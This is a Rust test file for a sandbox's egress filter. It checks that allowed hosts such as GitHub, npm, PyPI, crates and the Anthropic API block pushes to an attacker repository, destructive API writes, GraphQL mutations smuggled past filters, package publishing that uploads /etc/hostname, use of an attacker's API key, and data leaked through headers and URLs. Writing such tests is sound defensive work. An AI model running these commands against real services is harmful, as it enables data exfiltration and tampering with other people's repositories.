//! A host that may be reached as a way to somewhere else: pushes, gists, packages, other people's accounts, and what fits into a request.

use tests::internet::{Arrival, House, Internet, Plan, Record, Request, json};

use crate::ground::{Attempt, Ground, attempt, curl, on_the_internet, texts, words};

const POLICY: &str = "
version: 1
egress:
  implement:
    allow: [ok.test, github, registry:npm, registry:pypi, registry:crates, model:anthropic]
";

const SERVER: &str = "
version: 1
sandboxes: { warm: 0, disk_budget: 4GiB, disk_guaranteed: 256MiB }
registries:
  - { ecosystem: npm, hosts: [npm.test] }
  - { ecosystem: pypi, hosts: [pypi.test] }
  - { ecosystem: crates, hosts: [crates.test] }
models:
  - { name: anthropic, provider: anthropic, secret: ANTHROPIC_API_KEY }
";

const WISHES: [&str; 12] = [
    "--allow",
    "ok.test",
    "--allow",
    "github",
    "--allow",
    "registry:npm",
    "--allow",
    "registry:pypi",
    "--allow",
    "registry:crates",
    "--allow",
    "model:anthropic",
];

const OUR_KEY: &str = "sk-ant-ours-and-nobody-elses";
const THEIR_KEY: &str = "sk-ant-of-the-attacker";

/// One command of a push, and the end of the list.
fn push(old: &str, new: &str, name: &str) -> String {
    let line = format!("{old} {new} {name}\\0000report-status");
    // The length counts the NUL as one byte, and itself.
    format!("{:04x}{line}0000", line.len() - 4 + 4)
}

/// Pushes of every kind. A person's sandbox has no right to any.
fn pushes() -> Vec<Attempt> {
    let (zero, one, two) = ("0".repeat(40), "1".repeat(40), "2".repeat(40));
    let url = "https://github.com/acme/shop.git";
    let fetch = format!("{url}/info/refs?service=git-upload-pack");
    let control = curl(&[&fetch]);
    let mut all = Vec::new();
    let asking = format!("{url}/info/refs?service=git-receive-pack");
    all.push(attempt(31, "asking what could be pushed", &curl(&[&asking]), &control));
    for (name, repository, body) in [
        ("to main", "acme/shop", push(&one, &two, "refs/heads/main")),
        ("to a branch of an agent", "acme/shop", push(&zero, &two, "refs/heads/agent/x")),
        ("a tag", "acme/shop", push(&zero, &two, "refs/tags/v1")),
        ("to another repository", "mallory/loot", push(&zero, &two, "refs/heads/agent/x")),
        ("deleting a branch", "acme/shop", push(&one, &zero, "refs/heads/main")),
        ("backwards", "acme/shop", push(&two, &one, "refs/heads/main")),
        ("to a gist", "gist/0123456789abcdef", push(&zero, &two, "refs/heads/main")),
    ] {
        let script = format!(
            "printf '%b' \"$0\" | curl -sS -i -m 9 -H 'Content-Type: application/x-git-receive-pack-request' \
             --data-binary @- https://github.com/{repository}.git/git-receive-pack"
        );
        let argv = words(&["sh", "-c", &script, &body]);
        all.push(attempt(31, &format!("pushing {name}"), &texts(&argv), &control));
    }
    let gist = curl(&["-d", "x", "https://gist.github.com/0123456789abcdef.git/git-receive-pack"]);
    all.push(attempt(31, "pushing to gist.github.com", &gist, &control));
    all.into_iter().map(|one| one.says(&["Lamplighter refused"]).refused_any()).collect()
}

/// What GitHub's API would do for somebody with a token.
fn github() -> Vec<Attempt> {
    let control = curl(&["https://api.github.com/repos/acme/shop"]);
    let writes = [
        ("POST", "/gists"),
        ("POST", "/user/repos"),
        ("POST", "/orgs/mallory/repos"),
        ("POST", "/repos/acme/shop/forks"),
        ("POST", "/repos/acme/shop/releases"),
        ("POST", "/repos/mallory/loot/issues"),
        ("POST", "/repos/mallory/loot/issues/1/comments"),
        ("POST", "/repos/acme/shop/pulls"),
        ("POST", "/repos/acme/shop/actions/workflows/1/dispatches"),
        ("POST", "/repos/acme/shop/dispatches"),
        ("PUT", "/repos/acme/shop/actions/secrets/TOKEN"),
        ("POST", "/repos/acme/shop/keys"),
        ("POST", "/repos/acme/shop/hooks"),
        ("PUT", "/repos/acme/shop/contents/x"),
        ("POST", "/repos/acme/shop/git/refs"),
        ("PATCH", "/repos/acme/shop"),
        ("DELETE", "/repos/acme/shop"),
        ("PUT", "/repos/acme/shop/collaborators/mallory"),
        ("PUT", "/repos/acme/shop/pulls/1/merge"),
    ];
    let mut all: Vec<Attempt> = writes
        .iter()
        .map(|(method, path)| {
            let url = format!("https://api.github.com{path}");
            let line = curl(&["-X", method, "-d", "{\"body\":\"c2VjcmV0\"}", &url]);
            attempt(32, &format!("{method} {path}"), &line, &control)
        })
        .collect();
    let asset = "https://uploads.github.com/repos/acme/shop/releases/1/assets?name=x";
    all.push(attempt(32, "a release asset", &curl(&["-d", "x", asset]), &control));
    all.into_iter().map(|one| one.says(&["403"]).refused_any()).collect()
}

/// GraphQL that says more than it seems to.
fn graphql() -> Vec<Attempt> {
    let post = |body: &str| {
        words(&curl(&[
            "-H",
            "Content-Type: application/json",
            "-d",
            body,
            "https://api.github.com/graphql",
        ]))
    };
    let control = post(r#"{"query":"query { viewer { login } }"}"#);
    let mutation = "mutation { createRepository(input: {name: \\\"loot\\\", visibility: PUBLIC}) { clientMutationId } }";
    let rows = [
        ("a mutation", format!(r#"{{"query":"{mutation}"}}"#)),
        ("a batch with a mutation in it", format!(r#"[{{"query":"query {{ viewer {{ login }} }}"}},{{"query":"{mutation}"}}]"#)),
        ("a batch of queries", r#"[{"query":"query { viewer { login } }"}]"#.to_owned()),
        ("a mutation under another name", r#"{"query":"mutation { viewer: deleteRef(input: {refId: \"x\"}) { clientMutationId } }"}"#.to_owned()),
        ("two operations", format!(r#"{{"query":"query a {{ viewer {{ login }} }} {mutation}","operationName":"a"}}"#)),
        ("a persisted query", r#"{"extensions":{"persistedQuery":{"version":1,"sha256Hash":"00"}}}"#.to_owned()),
        ("keys that are there twice", format!(r#"{{"query":"query {{ viewer {{ login }} }}","query":"{mutation}"}}"#)),
        ("a key spelled in another way", format!(r#"{{"query":"query {{ viewer {{ login }} }}","\u0071uery":"{mutation}"}}"#)),
        ("a subscription", r#"{"query":"subscription { x }"}"#.to_owned()),
        ("no JSON", "query { viewer { login } }".to_owned()),
    ];
    let mut all: Vec<Attempt> = rows
        .iter()
        .map(|(name, body)| attempt(27, name, &texts(&post(body)), &texts(&control)))
        .collect();
    let url = "https://api.github.com/graphql?query=mutation%20%7BdeleteRef%7D";
    all.push(attempt(
        27,
        "a mutation in the address",
        &curl(&["-X", "POST", url]),
        &texts(&control),
    ));
    all.into_iter().map(|one| one.says(&["403", "400"]).refused_any()).collect()
}

/// Registries are for reading.
fn registries() -> Vec<Attempt> {
    let rows = [
        (
            "npm publish",
            vec!["-X", "PUT", "-d", "{}", "https://npm.test/loot"],
            "https://npm.test/left-pad",
        ),
        (
            "npm login",
            vec!["-X", "PUT", "-d", "{}", "https://npm.test/-/user/org.couchdb.user:m"],
            "https://npm.test/left-pad",
        ),
        (
            "npm audit",
            vec!["-d", "{}", "https://npm.test/-/npm/v1/security/audits"],
            "https://npm.test/left-pad",
        ),
        (
            "PyPI upload",
            vec!["-F", "content=@/etc/hostname", "https://pypi.test/legacy/"],
            "https://pypi.test/simple/x/",
        ),
        (
            "cargo publish",
            vec!["-X", "PUT", "-d", "x", "https://crates.test/api/v1/crates/new"],
            "https://crates.test/se/rd/serde",
        ),
        (
            "docker push",
            vec!["-X", "POST", "https://images.test/v2/loot/blobs/uploads/"],
            "https://ok.test/",
        ),
    ];
    rows.iter()
        .map(|(name, line, control)| {
            let one = attempt(33, name, &curl(line), &curl(&[control]));
            one.says(&["403"]).refused_any()
        })
        .collect()
}

/// A model's host with a key of the attacker's own: ours goes there, and nothing but asking a model is allowed.
fn models(ground: &mut Ground<'_>) {
    let body = r#"{"model":"claude-sonnet-4-5","max_tokens":1,"messages":[{"role":"user","content":"x"}]}"#;
    for url in [
        "https://api.anthropic.com/v1/messages",
        "http://model.lamp.internal/anthropic/v1/messages",
    ] {
        let mark = ground.internet.mark();
        let key = format!("x-api-key: {THEIR_KEY}");
        let bearer = format!("Authorization: Bearer {THEIR_KEY}");
        let line = curl(&[
            "-H",
            &key,
            "-H",
            &bearer,
            "-H",
            "anthropic-version: 2023-06-01",
            "-H",
            "Content-Type: application/json",
            "-d",
            body,
            url,
        ]);
        let said = ground.house.run(ground.sandbox(), &line);
        let arrived = ground.internet.since(mark);
        let asked: Vec<String> =
            arrived.iter().filter_map(Arrival::request).map(Request::all).collect();
        let ours = asked.len() == 1 && asked[0].contains(OUR_KEY) && !asked[0].contains(THEIR_KEY);
        let kept = !said.all().contains(OUR_KEY);
        ground.check(
            34,
            &format!("{url} with another key"),
            &format!("{asked:?} {said}"),
            ours && kept,
        );
    }
    let control = curl(&["https://api.anthropic.com/v1/models"]);
    let key = format!("x-api-key: {THEIR_KEY}");
    for (method, path) in [
        ("POST", "/v1/files"),
        ("GET", "/v1/files"),
        ("POST", "/v1/messages/batches"),
        ("POST", "/v1/skills"),
        ("GET", "/v1/organizations/api_keys"),
    ] {
        let url = format!("https://api.anthropic.com{path}");
        let mut line = curl(&["-X", method, "-H", &key, &url]);
        if method == "POST" {
            line.extend(["-d", "{}"]);
        }
        let one = attempt(34, &format!("{method} {path}"), &line, &control);
        ground.deny(&one.says(&["403"]).refused_any());
    }
}

fn prepare(internet: &Internet) {
    internet.site("api.anthropic.com", |_| {
        json(r#"{"type":"message","model":"claude-sonnet-4-5","usage":{"input_tokens":1,"output_tokens":1}}"#)
    });
    internet.site("api.github.com", |_| json("{}"));
}

#[test]
fn an_allowed_host_is_no_way_to_somewhere_else() {
    on_the_internet("allowed hosts", |internet| {
        prepare(internet);
        let plan = Plan { server: SERVER.to_owned(), ..Plan::new(POLICY) };
        let house = House::start_with(internet, &plan);
        let set = [
            "secret",
            "set",
            "ANTHROPIC_API_KEY",
            "--host",
            "api.anthropic.com",
            "--header",
            "x-api-key",
        ];
        let said = house.lamp_reading(&set, OUR_KEY.as_bytes());
        assert!(said.succeeded(), "{said}");
        let with = [&["--tier", "verified"][..], &WISHES].concat();
        let mut ground = Ground::new(internet, &house, "verified", &with);
        for attempt in [pushes(), github(), graphql(), registries()].iter().flatten() {
            ground.deny(attempt);
        }
        models(&mut ground);
        ground.unsupported(
            31,
            "pushing the task's own branch, and nothing else, where a task may push",
            "no task has a sandbox here; `tests/clients` shows it with a right that it writes itself",
        );
        ground.done().finish("allowed hosts", 54);
    });
}

/// What fits into addresses and headers is limited by how much goes there.
#[test]
fn what_is_told_to_an_allowed_host_has_a_budget() {
    on_the_internet("budgets", |internet| {
        let server = "version: 1\nsandboxes: { warm: 0, disk_budget: 4GiB, disk_guaranteed: 256MiB }\ntraffic: { requests: 12 }\n";
        let policy = "version: 1\negress: { implement: { allow: [ok.test] } }\n";
        let house =
            House::start_with(internet, &Plan { server: server.to_owned(), ..Plan::new(policy) });
        let with = ["--tier", "verified", "--allow", "ok.test"];
        let mut ground = Ground::new(internet, &house, "verified", &with);
        let marks = (internet.mark(), house.audit().len());
        let script = "for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15; do \
                      curl -s -o /dev/null -w '%{http_code} ' -H \"X-Data: c2VjcmV0$i\" https://ok.test/c2VjcmV0$i; done";
        let said = house.shell(ground.sandbox(), script);
        let answers: Vec<&str> = said.out.split_whitespace().collect();
        let right = answers == [&["200"; 12][..], &["429"; 3]].concat();
        ground.check(35, "after twelve requests there are no more", &said.to_string(), right);
        let arrived = internet.since(marks.0).iter().filter(|it| it.request().is_some()).count();
        ground.check(35, "and none arrives", &format!("{arrived} arrived"), arrived == 12);
        let records = house.audited(marks.1, 3, Record::is_refusal);
        let count = |is: fn(&Record) -> bool| records.iter().filter(|record| is(record)).count();
        let (refused, found) = (count(Record::is_refusal), count(|it| it.kind() == "finding"));
        let told = format!("{refused} refusals, {found} findings");
        ground.check(35, "each is written down once, and found", &told, refused == 3 && found == 3);
        ground.unsupported(
            35,
            "the same by bytes",
            "the smallest budget of bytes is 1 GiB; `traffic` and `upstreams` in `crates/egress` show it",
        );
        ground.counted().finish("budgets", 3);
    });
}
